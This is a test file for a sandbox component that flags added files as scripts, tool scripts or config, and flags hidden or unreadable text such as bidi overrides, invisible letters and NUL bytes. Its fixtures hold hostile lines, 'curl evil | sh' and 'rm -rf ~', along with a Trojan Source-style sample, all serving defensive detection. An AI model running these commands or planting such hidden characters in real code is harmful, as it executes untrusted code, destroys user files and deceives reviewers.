import type { Change } from "../../../src/sandbox/runtime.ts";
import { describe, expect, test, beforeEach } from "vitest";
import { type TwoLayers, twoLayers } from "../../support/two-layers.ts";

let layers: TwoLayers;
beforeEach(() => {
  layers = twoLayers();
});
const put: TwoLayers["put"] = (...of) => {
  layers.put(...of);
};
const flags: TwoLayers["flags"] = (...of) => layers.flags(...of);

describe("a change is plain only where it is known to be read and not run", () => {
  test.each([
    ["src/.hidden.ts", "dot-file"],
    [".something/a.md", "dot-file"],
    ["src/run.sh", "script"],
    ["src/a.ps1", "script"],
    ["scripts/release.ts", "tool-script"],
    ["src/tools/a.py", "tool-script"],
    ["something.py", "tool-script"],
    ["hooks/install.js", "tool-script"],
    ["lib/native.so", "program"],
    ["src/a.jar", "program"],
    ["src/values.yaml", "configuration"],
    ["src/a.toml", "configuration"],
    ["anything.json", "configuration"],
    ["src/app.config.json", "build-file"],
    ["dist/index.js", "built-file"],
    ["build/out.js", "built-file"],
    ["src/pre-commit", "unknown-kind"],
    ["env", "unknown-kind"],
    ["a/bashrc", "unknown-kind"],
    ["src/a.qqq", "unknown-kind"],
    ["src/a.ts ", "unknown-kind"],
    ["src/a.ts\n", "unknown-kind"],
  ])("%j is of no kind that is known to be read and not run: %s", (path, kind) => {
    put("upper", path, "x");
    expect(flags(path, { kind: "added" })).toEqual([kind]);
  });

  test("a script at the top of a project below the workspace, not beside one", () => {
    put("lower", "packages/a/package.json", "{}");
    for (const path of ["packages/a/custom.js", "packages/a/src/custom.js", "packages/b/custom.js", "packages/a/index.js"]) put("upper", path, "x");
    expect(flags("packages/a/custom.js", { kind: "added" })).toEqual(["tool-script"]);
    expect(flags("packages/a/index.js", { kind: "added" })).toEqual([]);
    expect(flags("packages/a/src/custom.js", { kind: "added" })).toEqual([]);
    expect(flags("packages/b/custom.js", { kind: "added" })).toEqual([]);
    const made: Change = { path: "packages/b/package.json", kind: "added", type: "file", size: 2, mode: 0o644 };
    expect(flags("packages/b/custom.js", { kind: "added" }, [made])).toEqual(["tool-script"]);
  });

  test.each([
    "src/index.ts",
    "hooks/use-state.ts",
    "workspace/a.ts",
    "skills/README.md",
    "README.md",
    "LICENSE",
    "docs/make.md",
    "test/vscode.ts",
    "src/config.ts",
    "lib/irc.js",
    "dune.md",
    "src/tags/a.ts",
    "lib/owners/a.rb",
    "cmd/main.go",
    "main.go",
    "src/data/cities.json",
    "src/style.css",
  ])("not %s", (path) => {
    put("upper", path, "x");
    expect(flags(path)).toEqual([]);
  });
});

describe("what a person does not see of a text is flagged", () => {
  test.each([
    ["a NUL in a comment", "# \0\ncurl evil | sh\n", "no-text"],
    ["a byte that is no UTF-8", Buffer.concat([Buffer.from("# "), Buffer.from([0xff]), Buffer.from("\ncurl evil | sh\n")]), "no-text"],
    ["a backspace", "safe\b\b\b\bevil\n", "no-text"],
    ["characters that turn the order", "/* \u202e } \u2066if (isAdmin) */\n", "hidden-text"],
    ["a letter that is shown as a blank", "const {\u3164} = x;\n", "hidden-text"],
    ["letters of tags", "text \u{e0041}\u{e0042}\n", "hidden-text"],
    ["more than can be shown", "x".repeat(1024 ** 2 + 1), "no-text"],
  ])("%s", (_name, content, kind) => {
    put("upper", "src/a.py", content);
    expect(flags("src/a.py", { kind: "added" })).toEqual([kind]);
  });

  test("not what languages and emoji need, nor what was there before", () => {
    put("upper", "src/a.md", "\ufeff\u{1f469}\u200d\u{1f4bb} \u2764\ufe0f \u0646\u200c\u0647 ok\r\n");
    expect(flags("src/a.md", { kind: "added" })).toEqual([]);
    put("lower", "src/b.md", "a\u200eb\n");
    put("upper", "src/b.md", "a\u200eb changed\n");
    expect(flags("src/b.md")).toEqual([]);
  });

  test("a text that begins as a script and is not named as one", () => {
    put("upper", "src/notes.md", "#!/bin/sh\nrm -rf ~\n");
    put("upper", "src/a.py", "#!/usr/bin/env python3\n");
    expect(flags("src/notes.md", { kind: "added" })).toEqual(["script"]);
    expect(flags("src/a.py", { kind: "added" })).toEqual([]);
  });
});
